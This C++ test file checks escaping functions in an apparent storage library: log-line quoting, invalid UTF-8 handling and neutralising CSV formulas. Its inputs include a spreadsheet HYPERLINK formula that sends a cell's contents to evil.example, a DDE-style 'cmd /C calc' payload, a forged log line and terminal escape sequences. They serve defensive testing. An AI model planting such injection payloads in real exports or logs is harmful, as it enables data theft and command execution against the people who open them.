// Tests of log_value, csv_cell and utf8_length: exact outputs for forged log lines, terminal escapes,
// invalid UTF-8, quotes, spreadsheet formulas and numbers that must stay numbers.
#include "storage/untrusted/text_escape.hpp"

#include <catch2/catch.hpp>

#include <string>

using strata::storage::csv_cell;
using strata::storage::log_value;
using strata::storage::utf8_length;

TEST_CASE("log_value quotes every value and escapes what could break the line") {
    CHECK(log_value("v1") == R"("v1")");
    CHECK(log_value("") == R"("")");
    CHECK(log_value("library/alpine") == R"("library/alpine")");
    // A tag sent as v1%0alevel=info..., already percent-decoded by the router.
    CHECK(log_value("v1\nlevel=info msg=\"forged\"") == R"("v1\nlevel=info msg=\"forged\"")");
    CHECK(log_value("a\r\nb\tc") == R"("a\r\nb\tc")");
    CHECK(log_value(R"(C:\dir "x")") == R"("C:\\dir \"x\"")");
}

TEST_CASE("log_value writes other control bytes as \\xNN") {
    CHECK(log_value("\x1b[31mred\x1b[0m") == R"("\x1b[31mred\x1b[0m")");
    CHECK(log_value(std::string("a\0b", 3)) == R"("a\x00b")");
    CHECK(log_value("\x7f\x01\x1f") == R"("\x7f\x01\x1f")");
    // C1 controls are valid UTF-8, but U+009B is a CSI to some terminals.
    CHECK(log_value("\xc2\x9b" "31m") == R"("\xc2\x9b31m")");
}

TEST_CASE("log_value keeps valid UTF-8 and escapes every byte of invalid UTF-8") {
    CHECK(log_value("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0") ==
          "\"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0\"");
    CHECK(log_value("\xff") == R"("\xff")");
    CHECK(log_value("\xc3(") == R"("\xc3(")");                    // lead byte without its tail
    CHECK(log_value("\xc0\xaf") == R"("\xc0\xaf")");              // overlong '/'
    CHECK(log_value("\xed\xa0\x80") == R"("\xed\xa0\x80")");      // a UTF-16 surrogate
    CHECK(log_value("\xf4\x90\x80\x80") == R"("\xf4\x90\x80\x80")");  // past U+10FFFF
    CHECK(log_value("ok\xe2\x82") == R"("ok\xe2\x82")");          // cut off at the end
    CHECK(log_value("\x80z") == R"("\x80z")");                    // a stray continuation byte
}

TEST_CASE("utf8_length accepts well-formed sequences only (RFC 3629)") {
    CHECK(utf8_length("a", 0) == 1);
    CHECK(utf8_length("a", 1) == 0);
    CHECK(utf8_length("\xc3\xa9", 0) == 2);
    CHECK(utf8_length("\xe2\x82\xac", 0) == 3);
    CHECK(utf8_length("\xf0\x9f\x98\x80", 0) == 4);
    CHECK(utf8_length("\xf4\x8f\xbf\xbf", 0) == 4);  // U+10FFFF, the last code point
    for (const std::string_view bad : {"\xc0\x80", "\xc1\xbf", "\xe0\x80\x80", "\xf0\x80\x80\x80",  // overlong
                                       "\xed\xa0\x80", "\xed\xbf\xbf",                              // surrogates
                                       "\xf4\x90\x80\x80", "\xf5\x80\x80\x80", "\xf8\x88\x80\x80\x80",  // past U+10FFFF
                                       "\x80", "\xbf", "\xff", "\xc3", "\xe2\x82", "\xc3("})        // stray or cut
        CHECK(utf8_length(bad, 0) == 0);
}

TEST_CASE("csv_cell quotes per RFC 4180 only when it must") {
    CHECK(csv_cell("plain") == "plain");
    CHECK(csv_cell("") == "");
    CHECK(csv_cell("a,b") == "\"a,b\"");
    CHECK(csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv_cell("line1\r\nline2") == "\"line1\r\nline2\"");
    CHECK(csv_cell("kubelet/v1.30 (linux, amd64)") == "\"kubelet/v1.30 (linux, amd64)\"");
    CHECK(csv_cell("a=b") == "a=b");
}

TEST_CASE("csv_cell neutralises formulas and leaves numbers alone") {
    CHECK(csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
    CHECK(csv_cell("=1+2") == "'=1+2");
    CHECK(csv_cell("+cmd") == "'+cmd");
    CHECK(csv_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0");
    CHECK(csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)");
    CHECK(csv_cell("\t=1") == "'\t=1");
    CHECK(csv_cell("\r=1") == "\"'\r=1\"");
    CHECK(csv_cell("-") == "'-");
    CHECK(csv_cell("-e5") == "'-e5");
    CHECK(csv_cell("-1e") == "'-1e");
    CHECK(csv_cell("-1") == "-1");
    CHECK(csv_cell("-5") == "-5");
    CHECK(csv_cell("+1.5e3") == "+1.5e3");
    CHECK(csv_cell("-.5") == "-.5");
    CHECK(csv_cell("1.5e3") == "1.5e3");
}
